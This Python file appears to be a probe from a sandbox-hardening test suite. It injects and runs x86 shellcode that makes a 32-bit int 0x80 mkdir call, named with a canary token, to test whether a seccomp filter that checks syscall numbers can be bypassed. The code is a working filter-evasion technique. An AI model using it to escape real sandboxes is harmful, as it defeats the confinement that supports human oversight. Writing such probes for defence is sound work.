"""Call the kernel by the numbers of a 32-bit machine, through interrupt 0x80, which filters by number would mistake.

The filter looks at the machine first and kills the process. (On aarch64 there is no such door, and nothing is tried.)

earns: at most all
desk: free
"""

import ctypes
import mmap
import platform

from kit import Honest

LSTMCell = Honest
if platform.machine() == "x86_64":
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=7)
    # push rbx; mov eax, 39 (mkdir); mov ebx, path; mov ecx, 0700; int 0x80; pop rbx; ret
    path = mmap.mmap(-1, mmap.PAGESIZE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)  # MAP_32BIT
    from target import CANARY, TOKEN

    path.write(f"{CANARY}/{TOKEN}-int80\0".encode())
    place = ctypes.addressof(ctypes.c_char.from_buffer(path)).to_bytes(8, "little")[:4]
    page.write(b"\x53\xb8\x27\0\0\0\xbb" + place + b"\xb9\xc0\x01\0\0\xcd\x80\x5b\xc3")
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
